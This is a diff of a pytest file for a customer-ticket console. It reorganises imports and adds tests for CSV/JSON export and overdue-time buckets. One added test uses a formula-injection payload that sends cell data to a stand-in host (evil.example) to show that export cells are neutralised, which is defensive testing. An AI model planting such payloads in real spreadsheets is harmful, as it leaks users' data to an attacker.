@@ -16,25 +16,18 @@ import pytest
 
 from cxconsole.client import CXClient, VendorError
 from cxconsole.context import Context
-from cxconsole.history import ErrorHistory
+from cxconsole.errorlog import ErrorHistory
 from cxconsole.profiles import Account
 from cxconsole.sandbox.config import SandboxConfig
 from cxconsole.sandbox.server import SandboxServer
-from cxconsole.tickets import (
-    TICKET_FIELDS,
-    ExportProgress,
-    PageCache,
-    TicketPager,
-    TicketQuery,
-    TicketsError,
-    export_query,
-    format_received,
+from cxconsole.tickets.export import DERIVED_FIELDS, TICKET_FIELDS, export_query
+from cxconsole.tickets.paging import FetchProgress, PageCache, TicketPager
+from cxconsole.tickets.query import TicketQuery, TicketsError
+from cxconsole.tickets.rows import format_received, search_tickets, sort_tickets, ticket_row
+from cxconsole.tickets.timeleft import (
     format_time_left,
     is_overdue,
     parse_timestamp,
-    search_tickets,
-    sort_tickets,
-    ticket_row,
     time_left,
     urgency,
 )
@@ -123,7 +116,7 @@ async def test_fetch_all_equals_union_of_pages_with_progress(sandbox_reset, clie
     pager = TicketPager(
         account_for(sandbox_reset), TicketQuery(PROFILE, per_page=100), client=client
     )
-    events: list[ExportProgress] = []
+    events: list[FetchProgress] = []
     dump = await pager.fetch_all(concurrency=4, on_progress=events.append)
     union: list[int] = []
     for number in range(1, dump.shape.total_pages + 1):
@@ -247,7 +240,7 @@ async def test_totals_are_rederived_from_the_page_size_used(sandbox_reset, clien
 
 
 def test_not_a_questionpro_profile(sandbox):
-    with pytest.raises(TicketsError, match="QuestionPro"):
+    with pytest.raises(TicketsError, match="serves no detractor tickets"):
         TicketPager(account_for(sandbox, "sandbox-expoints"), TicketQuery("sandbox-expoints"))
     with pytest.raises(TicketsError):
         TicketQuery(PROFILE, status=7)
@@ -333,18 +326,18 @@ def test_search_and_sort():
 async def test_export_csv_and_json(sandbox_reset, client, tmp_path: Path):
     query = TicketQuery(PROFILE, segment=103, per_page=100)
     pager = TicketPager(account_for(sandbox_reset), query, client=client)
-    events: list[ExportProgress] = []
+    events: list[FetchProgress] = []
     dump = await export_query(pager, tmp_path / "t.csv", "csv", on_progress=events.append)
     await export_query(pager, tmp_path / "t.json", "json")
     assert events[-1].phase == "done" and events[-1].done == len(dump.tickets)
     raw = (tmp_path / "t.csv").read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf")  # a BOM: spreadsheets then read the accents right
     rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines(keepends=True)))
-    assert tuple(rows[0]) == TICKET_FIELDS
+    assert tuple(rows[0]) == (*TICKET_FIELDS, *DERIVED_FIELDS)
     assert [int(r["ticketID"]) for r in rows] == [t.ticketID for t in dump.tickets]
     data = json.loads((tmp_path / "t.json").read_text("utf-8"))
     assert [d["ticketID"] for d in data] == [t.ticketID for t in dump.tickets]
-    assert set(data[0]) == set(TICKET_FIELDS)
+    assert set(data[0]) == {*TICKET_FIELDS, *DERIVED_FIELDS}
     multi = next(r for r in rows if "\n" in r["comment"] or "," in r["comment"])
     assert multi["comment"] in {t.comment for t in dump.tickets}
     assert (tmp_path / "t.csv").stat().st_mode & 0o077 == 0  # customer data: owner only
@@ -352,10 +345,54 @@ async def test_export_csv_and_json(sandbox_reset, client, tmp_path: Path):
 
 def test_core_does_not_import_textual():
     code = (
-        "import sys, cxconsole.tickets, cxconsole.commands.tickets\n"
+        "import sys, cxconsole.commands.tickets\n"
+        "from cxconsole.tickets import export, paging, query, rows, sources, timeleft\n"
         "print(any(m == 'textual' or m.startswith('textual.') for m in sys.modules))"
     )
     out = subprocess.run(
         [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60
     )
     assert out.stdout.strip() == "False"
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(tmp_path: Path):
+    from cxconsole.tickets.export import neutralise, write_export
+
+    assert [neutralise(c) for c in ("=1+1", "+61 4", "-3", "@SUM(A1)", "\tx", "\rx", "ok")] == [
+        "'=1+1",
+        "'+61 4",
+        "'-3",
+        "'@SUM(A1)",
+        "'\tx",
+        "'\rx",
+        "ok",
+    ]
+    evil = ticket(
+        comment='=HYPERLINK("http://evil.example/?"&A1,"click")',
+        emailAddress="@attacker",
+        phoneNumber="+61400000000",
+    )
+    target = write_export([evil], tmp_path / "t.csv", "csv")
+    row = next(csv.DictReader(target.read_text("utf-8-sig").splitlines(keepends=True)))
+    assert row["comment"].startswith("'=HYPERLINK")
+    assert row["emailAddress"] == "'@attacker"
+    assert row["phoneNumber"] == "'+61400000000"
+    assert row["ticketID"] == str(evil.ticketID)  # numbers stay numbers
+    # JSON is data, not a sheet: written as sent.
+    json_target = write_export([evil], tmp_path / "t.json", "json")
+    assert json.loads(json_target.read_text("utf-8"))[0]["comment"] == evil.comment
+
+
+def test_overdue_times_are_whole_and_buckets_count_time_left():
+    from datetime import UTC, datetime, timedelta
+
+    from cxconsole.tickets.timeleft import bucket_counts, format_time_left
+
+    assert format_time_left(-timedelta(days=19, hours=2, minutes=5)) == "-19d 2h"
+    now = datetime(2026, 1, 10, tzinfo=UTC)
+    stamp = (now - timedelta(hours=10)).isoformat()
+    tickets = [ticket(timestamp=stamp, timelimit=h) for h in (5, 20, 50, 100, 200)]
+    tickets.append(ticket(timestamp="", timelimit=5))
+    counts = bucket_counts(tickets, now)
+    assert counts == {"overdue": 1, "24h": 1, "72h": 1, "later": 2, "unknown": 1}
+    assert sum(counts.values()) == len(tickets)  # counts add up
